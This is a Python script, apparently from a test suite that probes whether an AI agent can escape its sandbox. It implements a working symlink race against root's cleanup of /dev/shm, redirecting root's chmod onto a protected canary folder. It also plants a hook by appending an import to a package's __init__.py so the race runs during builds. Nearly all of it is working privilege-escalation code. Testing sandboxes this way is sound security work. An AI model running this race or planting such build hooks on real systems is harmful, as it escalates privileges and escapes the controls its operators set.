"""Hole 2 of issue 13: root changes a file's mode through a planted link.

After every check root removes what `sse-runner` left in the shared writable
folders. The agent's build (race_hook.py, planted in pyarchive) makes a
world-writable folder X in /dev/shm; the agent's racer (this file with `--race`,
as `model`) moves in a folder m of its own, full of folders, and keeps root's first
`rmtree` from finishing: once root has listed m, it moves in big folders it
prepared beside X. Root then walks X by path, making each folder 0700; while root
reads one of the big folders, the racer renames it away and puts a link to
/opt/agent/canary in its place, so the `chmod` that follows lands on the canary, a
folder only root may change.

The agent repeats the build through the bencher (difficulty 2 allows it) and
reports the canary's owner and mode after each attempt.
"""

from __future__ import annotations

import functools
import json
import os
import shutil
import stat
import subprocess
import sys
import time
from pathlib import Path

import ssehostile as h

CANARY = "/opt/agent/canary"
GO = Path("/tmp/integ-race-go")
SHM = "/dev/shm"
PREFIX = "integ-racex-"  # the folders race_hook.py makes
ATTEMPTS = 4
SMALL = 2000
BIG, FILES = 8, 5000
"""Root reads each big folder for milliseconds: time enough for the swap."""


def names(folder: str | int) -> list[str]:
    """The names in a folder given by path or by descriptor."""
    with os.scandir(folder) as entries:
        return [entry.name for entry in entries]


def spin(predicate: object, seconds: float) -> bool:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if predicate():  # type: ignore[operator]
            return True
    return False


def pause(seconds: float) -> None:
    until = time.perf_counter() + seconds
    while time.perf_counter() < until:
        pass


STORE = f"{SHM}/integ-store-{os.getpid()}"


def prepare_store() -> int:
    """Big folders beside the build's folder (same file system), ready to move in."""
    Path(STORE).mkdir()
    fd = os.open(STORE, os.O_RDONLY | os.O_DIRECTORY)
    for index in range(BIG):
        name = f"b{index:02d}"
        os.mkdir(name, dir_fd=fd)
        folder = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        for number in range(FILES):
            os.close(os.open(f"f{number}", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=folder))
        os.close(folder)
    return fd


def race(seen: set[str]) -> str:
    """One race against root's clean-up of the next check's folder; what happened."""
    store = prepare_store()
    new: list[str] = []

    def appeared() -> bool:
        new[:] = [n for n in names(SHM) if n.startswith(PREFIX) and n not in seen]
        return bool(new)

    if not h.wait_for(appeared, 30, step=0.001):
        return "no folder appeared"
    folder = Path(SHM, new[0])
    if not h.wait_for(lambda: h.attempt((folder / "m").mkdir) == "DONE", 5, 0.001):
        return "the build's folder never became writable"
    fd = os.open(folder / "m", os.O_RDONLY | os.O_DIRECTORY)
    for index in range(SMALL):
        os.mkdir(f"a{index}", dir_fd=fd)
    os.close(os.open("ready", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))
    before = os.fstat(fd).st_mtime_ns
    if not spin(lambda: os.fstat(fd).st_mtime_ns != before, 30):
        return "root never cleaned the folder"
    # Root has listed m and is deleting: what moves in now outlives its rmtree.
    for index in range(BIG):
        name = f"b{index:02d}"
        os.rename(name, name, src_dir_fd=store, dst_dir_fd=fd)
    order = [name for name in names(fd) if name.startswith("b")]
    if not spin(lambda: os.fstat(fd).st_mode & 0o777 == 0o700, 3):
        return "root's first rmtree finished (no walk)"

    def swap(name: str) -> bool:
        pause(100e-6)  # root is now reading this folder
        try:
            os.rename(name, name + ".x", src_dir_fd=fd, dst_dir_fd=fd)
            os.symlink(CANARY, name, dir_fd=fd)
        except OSError:
            return False
        return True

    def made_private(name: str) -> bool:
        try:
            info = os.stat(name, dir_fd=fd, follow_symlinks=False)
        except OSError:
            return True
        return stat.S_ISDIR(info.st_mode) and info.st_mode & 0o777 == 0o700

    # Root walks into order[0] right after making m 0700; after each folder it made
    # 0700 it walks into the next one.
    swaps = int(swap(order[0]))
    for passed, following in zip(order[1::2], order[2::2], strict=False):
        if not spin(functools.partial(made_private, passed), 2):
            break
        swaps += swap(following)
    return f"{swaps} swaps while root walked"


def canary() -> dict[str, object]:
    info = Path(CANARY).stat()
    return {"uid": info.st_uid, "mode": oct(info.st_mode & 0o7777)}


def plant() -> None:
    shutil.copy("/opt/agent/race_hook.py", "pyarchive/_integrity_race.py")
    with Path("pyarchive/__init__.py").open("a") as init:
        init.write("\nfrom pyarchive import _integrity_race  # noqa: E402,F401\n")


def main() -> None:
    if sys.argv[1:2] == ["--race"]:
        try:
            print(race(set(json.loads(sys.argv[2]))), flush=True)
        finally:
            shutil.rmtree(STORE, ignore_errors=True)
        return
    plant()
    GO.touch()
    found: dict[str, object] = {"canary before": canary(), "attempts": []}
    for _ in range(ATTEMPTS):
        seen = [n for n in names(SHM) if n.startswith(PREFIX)]
        racer = subprocess.Popen(
            [sys.executable, __file__, "--race", json.dumps(seen)],
            stdout=subprocess.PIPE,
            text=True,
        )
        build = h.bencher("build")
        try:
            outcome = racer.communicate(timeout=5)[0].strip()
        except subprocess.TimeoutExpired:
            racer.kill()
            outcome = "the racer was still waiting: " + racer.communicate()[0].strip()
        shutil.rmtree(f"{SHM}/integ-store-{racer.pid}", ignore_errors=True)
        after = canary()
        found["attempts"].append(  # type: ignore[attr-defined]
            {"build": build["status"], "racer": outcome, "canary": after}
        )
        if after != found["canary before"]:
            break
    GO.unlink()
    h.write_report(found)
    print("link-race: done")


if __name__ == "__main__":
    main()
